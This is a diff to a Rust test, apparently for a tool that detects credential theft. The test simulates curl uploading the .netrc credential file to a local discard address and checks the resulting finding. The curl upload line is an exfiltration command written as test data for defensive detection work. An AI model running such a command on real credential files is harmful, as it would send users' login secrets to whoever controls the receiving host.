@@ -176,7 +176,7 @@ fn curl() {
     // As if to log in, and among other options with the file.
     let act =
         scene.theft("send", Store::Netrc, r#"curl --silent --max-time 1 -nsT "$STORE" http://127.0.0.1:9/; exit 0"#);
-    scene.add(act.reader(skip::program("curl").unwrap()));
+    scene.add(act.reader(skip::program("curl").unwrap()).below(&["dash"]));
     let watched = scene.play();
     let told = |finding: &&Finding| finding.mentions("curl only moves or shows bytes, for whoever runs it");
     assert_eq!(watched.findings.iter().filter(told).count(), 1, "{}", watched.story());
